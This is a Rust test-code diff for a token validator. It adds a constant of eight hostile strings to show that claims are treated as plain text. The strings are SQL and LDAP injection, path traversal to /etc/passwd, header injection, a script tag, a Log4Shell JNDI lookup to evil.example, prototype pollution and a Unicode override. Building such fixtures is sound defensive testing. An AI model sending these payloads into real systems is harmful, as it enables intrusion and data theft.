@@ -6,6 +6,7 @@
 pub mod corpus;
 pub mod published_keys;
 pub mod sender;
+pub mod statement_rows;
 
 use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
 use countersign_validator::{Code, KeySet, Policy, Refusal, RequiredScopes, UnixTime, VerifiedToken, verify};
@@ -20,6 +21,18 @@ use serde_json::{Value, json};
 pub const ISSUER: &str = "https://as.example.com";
 pub const AUDIENCE: &str = "https://api.example.com";
 pub const NOW: i64 = 1_800_000_000;
+
+/// What is dangerous in some place where a careless program puts it; in a claim it is only text.
+pub const HOSTILE_TEXTS: [&str; 8] = [
+    "' OR 1=1 --",
+    "*)(uid=*))(|(uid=*",
+    "../../etc/passwd",
+    "a\r\nSet-Cookie: x=y",
+    "<script>alert(1)</script>",
+    "${jndi:ldap://evil.example/a}",
+    "__proto__",
+    "\u{202e}\0",
+];
 
 /// A private key of the specifications, by the `kid` that it has in [`key_set`].
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
